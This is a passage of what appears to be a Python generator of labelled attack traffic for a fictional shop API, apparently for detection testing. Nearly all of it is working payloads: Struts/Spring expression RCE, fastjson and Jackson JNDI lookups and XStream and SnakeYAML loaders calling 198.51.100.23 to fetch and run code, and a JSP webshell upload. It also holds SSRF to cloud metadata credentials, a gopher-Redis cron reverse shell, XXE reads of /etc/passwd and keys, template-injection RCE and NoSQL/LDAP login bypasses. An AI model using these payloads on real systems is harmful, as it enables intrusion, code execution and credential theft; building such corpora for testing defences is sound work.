             "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm))))."
             "(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
             "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
             "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")
    t.send("struts-s2-045-content-type", "POST", "/orders/upload.action", "", s2045, client="python")
    t.get("struts-s2-057-path", "/struts2-showcase/" + enc("${(#_memberAccess[\"allowStaticMethodAccess\"]=true,#a=@java.lang.Runtime@getRuntime().exec('id').getInputStream(),#b=new java.io.InputStreamReader(#a),#c=new java.io.BufferedReader(#b),#d=new char[51020],#c.read(#d),#out=@org.apache.struts2.ServletActionContext@getResponse().getWriter(),#out.println(#d),#out.close())}", safe="()=,@[]") + "/actionChain1.action", client="curl")
    t.send("spring-cloud-function-cve-2022-22963", "POST", "/functionRouter", "test", "text/plain", client="curl",
           extra=[("spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")")])
    t.json("spring-cloud-gateway-cve-2022-22947", "/actuator/gateway/routes/hacktest", {"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}], "uri": "http://example.com"}, host="gateway.platform.svc:8080", client="python")
    t.form("jenkins-script-console", "/script", [("script", 'def proc = "cat /var/jenkins_home/secrets/master.key".execute(); println proc.text'), ("Jenkins-Crumb", c.hex(64)), ("Submit", "Run")], host="jenkins.ci.svc:8080", client="firefox")
    t.get("jenkins-cve-2019-1003000", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=" + enc('public class x { public x(){ "curl -s http://198.51.100.23/j.sh | sh".execute() } }'), host="jenkins.ci.svc:8080", client="curl")
    t.json("fastjson-autotype", "/api/v1/orders", {"order": {"id": 1, "customer": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.23:1389/Exploit", "autoCommit": True}}}, client="python")
    t.json("fastjson-1.2.47", "/api/v1/profile", {"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"}, "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.23:1099/Exploit", "autoCommit": True}}, client="go")
    t.json("jackson-polymorphic", "/api/v1/settings/datasource", ["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "ldap://" + o[1] + ":1389/Exploit"}], method="PUT", client="python")
    t.xml("xstream", "/api/v1/orders/import", '<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.EventHandler">\n      <target class="java.lang.ProcessBuilder">\n        <command><string>bash</string><string>-c</string><string>curl http://198.51.100.23/x|sh</string></command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>', client="curl")
    t.send("snakeyaml", "POST", "/api/v1/pipelines/config", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://198.51.100.23/yaml-payload.jar"]]]]\n', "application/x-yaml", client="python")
    t.json("spring-actuator-h2", "/actuator/env", {"name": "spring.datasource.hikari.connection-test-query", "value": "CREATE ALIAS EXEC AS CONCAT('String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new',' java.util.Scanner(Runtime.getRun','time().exec(cmd).getInputStream()); if (s.hasNext()) {return s.next();} throw new IllegalArgumentException(); }');CALL EXEC('curl http://198.51.100.23/h2');"}, client="curl")
    t.form("spring-data-cve-2018-1273", "/users?page=&size=5", [('username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("touch /tmp/pwned")]', "chybeta"), ("password", "chybeta"), ("repeatedPassword", "chybeta")], client="python")
    t.json("elasticsearch-cve-2015-1427", "/_search?pretty", {"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}}, host="es.logging.svc:9200", client="curl")
    t.json("el-injection-bean-validation", "/api/v1/signup", {"user": {"username": "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}", "email": "a@b.co"}}, client="python")
    t.mp("multipart-jsp-webshell", "/api/v1/uploads", [dict(name="file", filename="cmd.jsp", ctype="application/octet-stream", value='<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); InputStream in = p.getInputStream(); int ch; while ((ch = in.read()) != -1) out.print((char) ch); %>')], client="curl")


def gopher_redis(cmds, host="127.0.0.1:6379"):
    payload = "".join("*%d\r\n" % len(cmd) + "".join("$%d\r\n%s\r\n" % (len(x.encode()), x) for x in cmd) for cmd in cmds)
    return f"gopher://{host}/_" + urllib.parse.quote(payload, safe="")


def ip_forms(ip):
    n = int(ipaddress.IPv4Address(ip))
    return {"decimal": str(n), "hex": hex(n), "octal": ".".join("0%o" % int(p) for p in ip.split("."))}


def atk_ssrf(c):
    t = Tag(c, "ssrf")
    md = ip_forms("169.254.169.254")
    lo = ip_forms("127.0.0.1")
    t.json("json-nested", "/api/v1/webhooks", {"webhook": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "events": ["order.created"], "secret": c.alnum(24)}}, client="chrome")
    t.get("query", "/api/v1/link-preview?" + qs([("url", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")]), client="chrome")
    t.json("json-nested", "/api/v1/users/me/avatar/import", {"user": {"avatar": {"source_url": "http://[::ffff:127.0.0.1]:8080/admin/users"}}})
    t.json("json-nested", "/api/v1/integrations/rss", {"feed": {"url": "http://" + md["decimal"] + "/latest/meta-data/iam/security-credentials/"}}, client="python")
    t.get("query-octal", "/api/v1/fetch?" + qs([("src", "http://" + md["octal"] + "/latest/user-data")], safe=":/"), client="curl")
    t.json("json-nested", "/api/v1/imports", {"import": {"kind": "url", "location": "http://" + md["hex"] + "/latest/meta-data/"}})
    t.json("json-gopher", "/api/v1/webhooks/test", {"target": {"url": gopher_redis([["flushall"], ["set", "1", "\n\n*/1 * * * * bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n\n"], ["config", "set", "dir", "/var/spool/cron/"], ["config", "set", "dbfilename", "root"], ["save"]])}}, client="python")
    t.get("query-gopher", "/api/v1/proxy?" + qs([("url", gopher_redis([["info"]], host="redis-master.cache.svc:6379"))]), client="curl")
    t.get("query-dict", "/api/v1/check-url?" + qs([("u", "dict://127.0.0.1:11211/stats")]), client="curl")
    t.json("json-file", "/api/v1/pdf/render", {"document": {"source": {"url": "file:///etc/passwd"}, "format": "A4"}})
    t.json("json-file", "/api/v1/documents/fetch", {"doc": {"href": "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}}, client="go")
    t.json("json-nested", "/api/v1/integrations/test", {"integration": {"endpoint": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"}}, extra=[("Metadata", "true")])
    t.get("query-ipv6", "/api/v1/screenshot?" + qs([("target", "http://[fd00:ec2::254]/latest/meta-data/")]), client="python")
    t.json("json-nested", "/api/v2/thumbnails", {"source": {"image_url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"}})
    t.json("json-array", "/api/v1/monitors", {"monitors": [{"name": "home", "url": "https://acme-shop.com/"}, {"name": "creds", "url": "http://169.254.170.2/v2/credentials/"}]})
    t.json("json-nested", "/api/v1/hooks", {"hook": {"config": {"url": "https://127.0.0.1:10250/pods", "insecure_ssl": "1"}}}, client="chrome")
    t.get("query", "/api/v1/unfurl?" + qs([("link", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets")]), client="go")
    t.json("json-nested", "/api/v1/connectors", {"connector": {"type": "http", "base_url": "http://127.0.0.1:2379/v2/keys/?recursive=true"}})
    t.get("query-dns-rebind", "/api/v1/preview?" + qs([("url", "http://169.254.169.254.nip.io/latest/user-data")]), client="firefox")
    t.json("json-parser-confusion", "/api/v1/oembed", {"url": "http://cdn.acme-shop.com@169.254.169.254/latest/meta-data/"})
    t.json("json-parser-confusion", "/api/v1/images/import", {"src": "http://169.254.169.254#@cdn.acme-shop.com/latest/meta-data/"}, client="python")
    t.get("query-zero", "/api/v1/fetch?" + qs([("src", "http://0:8500/v1/agent/self")]), client="curl")
    t.json("json-nested", "/api/v1/webhooks", {"webhook": {"url": "http://localhost:8500/v1/agent/service/register", "method": "PUT"}}, method="POST")
    t.json("json-unicode-host", "/api/v1/link-preview", {"url": "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/"}, client="node")
    t.get("oidc-request-uri", "/oauth2/authorize?" + qs([("client_id", "spa-web"), ("response_type", "code"), ("request_uri", "http://127.0.0.1:8080/admin/config"), ("scope", "openid")]), host="id.acme-shop.com", client="chrome")
    t.gql("graphql-variables", "/graphql", "mutation Import($url: URL!) {\n  importCatalog(url: $url) { id status }\n}", {"url": "http://169.254.169.254/computeMetadata/v1/?recursive=true&alt=text"}, op="Import")
    t.xml("soap", "/services/DocumentService", soap("urn:acme:docs", "<ns:FetchDocument><ns:url>http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role</ns:url></ns:FetchDocument>"), ctype="text/xml; charset=utf-8", extra=[("SOAPAction", '"urn:acme:docs/FetchDocument"')], client="java")
    t.json("json-html-to-pdf", "/api/v1/invoices/render", {"invoice": {"html": "<h1>Invoice</h1><iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"800\" height=\"600\"></iframe>"}})
    t.form("form", "/api/v1/profile/photo-from-url", [("image_url", "http://localtest.me:9200/_cat/indices?v"), ("crop", "square")], client="firefox")
    t.mp("multipart-svg", "/api/v1/images", [dict(name="file", filename="logo.svg", ctype="image/svg+xml", value='<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image xlink:href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="200" height="200"/></svg>')], client="chrome")
    t.json("json-nested", "/api/v1/registries", {"registry": {"url": "http://127.0.0.1:2375/containers/json?all=1"}})
    t.get("query-ipv6-mapped", "/api/v1/fetch?" + qs([("src", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/")]), client="curl")
    t.json("json-in-string", "/api/v1/jobs", {"type": "fetch", "spec": json.dumps({"url": "http://" + lo["hex"] + ":8080/actuator/env"})})
    t.get("query-short-ip", "/api/v1/proxy?" + qs([("url", "http://127.1:9090/api/v1/targets")]), client="go")


def atk_xxe(c):
    t = Tag(c, "xxe")
    t.xml("xml", "/api/v1/orders/import", '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order>\n  <id>1001</id>\n  <note>&xxe;</note>\n</order>', client="curl")
    t.xml("soap-oob", "/services/PaymentService", '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY % dtd SYSTEM "http://' + OAST[0] + '/evil.dtd"> %dtd;]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetStatus><id>1</id></GetStatus></soap:Body></soap:Envelope>', ctype="text/xml; charset=utf-8", extra=[("SOAPAction", '"GetStatus"')], client="java")
    t.mp("multipart-svg", "/api/v1/avatars", [dict(name="avatar", filename="me.svg", ctype="image/svg+xml", value='<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>')], client="chrome")
    t.xml("xinclude", "/services/ProductService", soap("urn:acme:products", '<ns:GetProduct><ns:id xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></ns:id></ns:GetProduct>'), ctype="text/xml; charset=utf-8", client="python")
    t.xml("billion-laughs", "/api/v1/feeds/parse", '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">\n <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">\n <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">\n <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">\n]>\n<lolz>&lol9;</lolz>', client="curl")
    t.xml("php-filter-entity", "/api/xmlrpc.php", '<?xml version="1.0"?>\n<!DOCTYPE methodCall [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php">]>\n<methodCall><methodName>pingback.ping</methodName><params><param><value><string>&src;</string></value></param></params></methodCall>', ctype="text/xml", client="python")
    t.xml("expect-entity", "/api/v1/import/xml", '<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY cmd SYSTEM "expect://id">]>\n<data><row>&cmd;</row></data>', client="curl")
    t.xml("jar-entity", "/api/v1/catalog/upload", '<?xml version="1.0"?>\n<!DOCTYPE catalog [<!ENTITY x SYSTEM "jar:http://198.51.100.23/evil.zip!/evil.dtd">]>\n<catalog><item>&x;</item></catalog>', client="java")
    t.xml("content-type-switch", "/api/v1/users", '<?xml version="1.0"?>\n<!DOCTYPE user [<!ENTITY x SYSTEM "file:///proc/self/environ">]>\n<user><name>&x;</name><email>a@b.co</email></user>', client="chrome")
    saml = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE r [<!ENTITY % x SYSTEM "http://' + OAST[1] + '/saml.dtd"> %x;]>\n'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_' + c.hex(32) + '" Version="2.0" IssueInstant="2024-06-20T10:00:00Z">'
            '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.org</saml:Issuer></samlp:Response>')
    t.form("saml-base64", "/saml/acs", [("SAMLResponse", base64.b64encode(saml.encode()).decode()), ("RelayState", "https://app.acme-shop.com/dashboard")], client="chrome", host="sso.acme-shop.com")
    t.xml("saml-artifact-soap", "/saml/artifact", soap("urn:oasis:names:tc:SAML:2.0:protocol", '<!-- resolve -->').replace('<?xml version="1.0" encoding="utf-8"?>\n', '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/shibboleth/sp-key.pem">]>\n').replace("<!-- resolve -->", '<ns:ArtifactResolve ID="_a1" Version="2.0" IssueInstant="2024-06-20T10:00:00Z"><ns:Artifact>&xxe;</ns:Artifact></ns:ArtifactResolve>'), ctype="text/xml", host="sso.acme-shop.com", client="java")
    t.xml("rss-import", "/api/v1/feeds", '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [<!ENTITY % remote SYSTEM "https://' + EVIL[3] + '/rss.dtd"> %remote; %send;]>\n<rss version="2.0"><channel><title>x</title></channel></rss>', ctype="application/rss+xml", client="python")
    t.xml("xlsx-sharedstrings", "/api/v1/spreadsheets/parts/xl/sharedStrings.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>', method="PUT", client="python")
    t.xml("docx-document", "/api/v1/templates/word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [<!ENTITY % ext SYSTEM "http://' + OAST[2] + '/docx.dtd"> %ext;]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quote</w:t></w:r></w:p></w:body></w:document>', method="PUT", client="python")
    body = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order><note>&xxe;</note></order>'.encode("utf-16")
    c.raw("xxe", "utf16-body", raw_request(["POST /api/v1/orders/import HTTP/1.1", "Host: api.acme-shop.com", "User-Agent: " + UA["python"], "Accept: */*",
                                             "Content-Type: application/xml; charset=utf-16", "Content-Length: " + str(len(body))], body))
    t.xml("local-dtd", "/api/v1/import", '<?xml version="1.0" ?>\n<!DOCTYPE message [\n    <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n    <!ENTITY % ISOamso \'\n        <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n        <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n        &#x25;eval;\n        &#x25;error;\n        \'>\n    %local_dtd;\n]>\n<message>x</message>', client="curl")
    t.xml("gpx-upload", "/api/v1/activities/import", '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///app/.env">]>\n<gpx version="1.1" creator="x"><trk><name>&xxe;</name></trk></gpx>', ctype="application/gpx+xml", client="android-app")
    t.send("webdav-propfind", "PROPFIND", "/dav/files/alice/", '<?xml version="1.0"?>\n<!DOCTYPE propfind [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>', "application/xml", extra=[("Depth", "1")], client="curl", host="files.acme-shop.com")
    t.xml("external-subset", "/api/v1/atom/import", '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE feed SYSTEM "http://' + OAST[3] + '/feed.dtd">\n<feed xmlns="http://www.w3.org/2005/Atom"><title>&x;</title></feed>', ctype="application/atom+xml", client="python")
    t.mp("multipart-xml", "/api/v1/invoices/upload", [dict(name="invoice", filename="einvoice.xml", ctype="text/xml", value='<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://' + OAST[4] + '/ubl.dtd"> %p;]>\n<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>INV-1</ID></Invoice>')], client="chrome")
    t.xml("soap12", "/ws/ShippingService", soap("http://acme.example/shipping", "<ns:Track><ns:no>&file;</ns:no></ns:Track>", version="1.2").replace("<soap:Envelope", '<!DOCTYPE soap:Envelope [<!ENTITY file SYSTEM "file:///c:/windows/win.ini">]>\n<soap:Envelope', 1), ctype="application/soap+xml; charset=utf-8", client="java")


def atk_ssti(c):
    t = Tag(c, "ssti")
    t.json("jinja2-json-nested", "/api/v1/notifications/templates", {"template": {"channel": "email", "subject": "Order {{ order.id }}", "body": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"}}, method="PUT", client="chrome")
    t.get("jinja2-query", "/api/v1/greeting?" + qs([("name", "{{cycler.__init__.__globals__.os.popen('id').read()}}")]), client="curl")
    t.json("jinja2-subclasses", "/api/v1/reports/custom", {"report": {"title": "{{ ''.__class__.__mro__[1].__subclasses__()[408]('cat /etc/passwd',shell=True,stdout=-1).communicate() }}"}})
    t.form("jinja2-filter-bypass", "/api/v1/preview", [("content", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}")], client="python")
    t.gql("jinja2-graphql", "/graphql", "mutation Card($input: CardInput!) {\n  createGreetingCard(input: $input) { id previewUrl }\n}", {"input": {"message": "{{lipsum.__globals__[\"os\"].popen(\"curl http://" + EVIL[0] + "/s|sh\").read()}}", "theme": "birthday"}}, op="Card")
    t.json("jinja2-loop", "/api/v1/pages", {"page": {"blocks": [{"type": "text", "content": "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{%endif%}{% endfor %}"}]}})
    t.get("jinja2-config-leak", "/api/v1/welcome?" + qs([("user", "{{config.items()}}")]), client="firefox")
    t.json("twig-filter-callback", "/api/v1/newsletters/preview", {"newsletter": {"intro": "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"}}, client="chrome")
    t.form("twig-filter-system", "/contact/preview", [("name", "{{['id']|filter('system')}}"), ("email", "a@b.co")], client="firefox")
    t.get("twig-map", "/api/v1/labels/render?" + qs([("text", "{{['cat /etc/passwd']|map('system')|join}}")]), client="curl")
    t.json("freemarker-execute", "/api/v1/documents/templates", {"template": {"name": "quote", "source": "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }"}}, client="java")
    t.form("freemarker-inline", "/admin/templates/save", [("template", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}")], client="python")
    t.json("freemarker-sandbox-bypass", "/api/v1/products/12/description", {"description": "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/home/carlos/my_password.txt').toURL().openStream().readAllBytes()?join(\" \")}"}, method="PUT")
    t.json("velocity", "/api/v1/mail/templates", {"mail": {"body": "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"}}, client="java")
    t.get("thymeleaf-path", "/api/v1/doc/" + enc("__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")}__::.x", safe="_$(){}.:"), client="curl")
    t.get("thymeleaf-query", "/api/v1/view?" + qs([("lang", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x")]), client="python")
    t.json("erb-system", "/api/v1/greetings", {"greeting": {"text": "<%= system(\"id\") %>"}}, client="chrome")
    t.form("erb-backticks", "/api/v1/labels", [("label", "<%= `cat /etc/passwd` %>"), ("size", "4x6")], client="curl")
    t.json("erb-file-read", "/api/v1/profiles/me", {"profile": {"signature": "<%= File.open('/etc/passwd').read %>"}}, method="PATCH")
    t.json("handlebars", "/api/v1/templates/render", {"template": "{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n      {{#with string.split as |codelist|}}\n        {{this.pop}}\n        {{this.push \"return require('child_process').execSync('id');\"}}\n        {{this.pop}}\n        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n            {{this}}\n          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n  {{/with}}\n{{/with}}", "data": {}}, client="node")
    t.json("smarty", "/api/v1/shop/templates", {"tpl": {"footer": "{system('id')}"}}, method="PUT", client="python")
    t.form("smarty-write-file", "/index.php?page=preview", [("tpl", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}")], client="curl")
    t.json("mako", "/api/v1/reports/footer", {"footer": "<% import os; x=os.popen('id').read() %>${x}"}, client="python")
    t.json("pug", "/api/v1/pages/render", {"page": {"pug": "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('curl http://" + EVIL[0] + "/p|sh')}()}"}}, client="node")
    t.json("nunjucks", "/api/v1/emails/preview", {"email": {"body": "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"}}, client="axios")
    t.json("ejs", "/api/v1/pdf/templates", {"template": {"html": "<%= process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"}}, client="node")
    t.form("tornado", "/api/v1/render", [("tmpl", "{% import os %}{{ os.popen(\"id\").read() }}")], client="python")
    t.json("razor", "/api/v1/cms/views", {"view": {"markup": "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\"); }"}}, client="edge")
    t.get("jinja2-double-encoded", "/api/v1/hello?" + qs([("name", "{{ namespace.__init__.__globals__.os.popen('id').read() }}")], level=2), client="curl")
    t.gql("jinja2-unicode-escaped", "/graphql", "mutation Sig($input: SignatureInput!) {\n  updateSignature(input: $input) { ok }\n}", {"input": {"html": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"}}, op="Sig", style="esc:{}'_")
    t.json("json-in-string", "/api/v1/campaigns", {"name": "summer", "config": json.dumps({"subject": "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"})})


def atk_nosqli(c):
    t = Tag(c, "nosqli")
    t.json("json-operator", "/api/auth/login", {"username": {"$ne": None}, "password": {"$ne": None}}, client="curl")
    t.json("json-operator", "/api/v1/sessions", {"email": "admin@acme-shop.com", "password": {"$gt": ""}}, client="python")
    t.form("form-bracket", "/login", [("username[$ne]", "toto"), ("password[$ne]", "toto")], keysafe="[]$", client="firefox")
    t.get("query-bracket", "/api/v1/users/login?user[$regex]=^adm&pass[$ne]=1", client="curl")
    t.json("json-regex", "/api/v1/auth", {"user": {"name": "admin", "password": {"$regex": "^a.*"}}})
    t.json("json-where", "/api/v1/products/search", {"filter": {"$where": "function(){ sleep(5000); return true; }"}})
    t.json("json-where", "/api/v1/users/find", {"query": {"$where": "this.password.match(/^p/)"}})
    t.json("json-js-injection", "/api/v1/login", {"username": "admin'; return true; var dummy='", "password": "x"}, client="chrome")
    t.json("json-function", "/api/v1/items/query", {"filter": {"$expr": {"$function": {"body": "function(){ sleep(3000); return true; }", "args": [], "lang": "js"}}}})
    t.json("json-expr", "/api/v1/accounts/lookup", {"match": {"username": "admin", "$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}})
    t.json("json-lookup", "/api/v1/reports/aggregate", {"pipeline": [{"$match": {"tenant": "acme"}}, {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "leak"}}]}, client="python")
    t.json("json-or", "/api/v1/auth/login", {"username": "guest", "$or": [{"password": {"$exists": False}}, {"password": {"$ne": "x"}}]})
    t.json("json-in-string", "/api/v1/search", {"collection": "documents", "q": json.dumps({"owner": {"$ne": None}})}, client="node")
    t.get("query-json", "/api/v1/notes?" + qs([("filter", json.dumps({"owner_id": {"$ne": None}}))]), client="chrome")
    t.json("json-unicode-escaped", "/api/v1/password/reset", '{"email":"victim@example.com","token":{"\\u0024ne":""},"new_password":"Pwn3d!2024"}', client="node")
    t.gql("graphql-json-scalar", "/graphql", "query Users($where: JSON) {\n  users(where: $where) { id email resetToken }\n}", {"where": {"resetToken": {"$regex": "^"}}}, op="Users")
    t.json("json-in", "/api/v1/login", {"user": "admin", "pass": {"$in": ["admin", "password", "123456", "letmein"]}})
    t.json("json-nin", "/api/v1/login", {"username": {"$nin": ["guest", "test"]}, "password": {"$gt": ""}}, client="python")
    t.json("json-exists", "/api/v1/password/confirm", {"email": "victim@example.com", "resetToken": {"$exists": True}})
    t.get("query-bracket", "/api/v1/password/reset?email=victim%40example.com&token[$ne]=x", client="python")
    t.mp("multipart-bracket", "/api/v1/signin", [dict(name="username", value="admin"), dict(name="password[$ne]", value="1")], client="curl")
    t.json("json-where-process", "/api/v1/query", {"where": {"$where": "this.constructor.constructor('return process')().exit()"}})
    t.json("json-regex-options", "/api/v1/login", {"username": {"$regex": "ad.*", "$options": "i"}, "password": {"$ne": 1}}, client="python")
    t.get("query-bracket", "/api/v1/orders?userId[$ne]=0&limit=100", client="android-app")
    t.json("couchdb-mango", "/shop/_find", {"selector": {"type": "user", "password": {"$gt": None}}, "fields": ["_id", "email", "password"]}, host="couchdb.data.svc:5984", client="curl")
    t.json("json-nested", "/api/v2/carts/merge", {"cart": {"owner": {"session": {"$ne": "x"}}}}, client="ios-app")


def atk_ldapi(c):
    t = Tag(c, "ldapi")
    t.json("json-login", "/api/v1/auth/ldap", {"user": "*)(uid=*))(|(uid=*", "password": "x"}, client="python")
    t.form("form-login", "/login", [("username", "admin)(&)"), ("password", "anything")], client="firefox")
    t.get("query", "/api/v1/directory/search?" + qs([("cn", "*)(objectClass=*")]), client="curl")
    t.get("query", "/api/v1/people?" + qs([("q", "*)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example)")]), client="chrome")
    t.json("json-nested", "/api/v1/auth/login", {"credentials": {"username": "admin)(!(&(1=0", "password": "whatever"}})
    t.get("query", "/api/v1/users/lookup?" + qs([("uid", "*)(userPassword=*)")]), client="python")
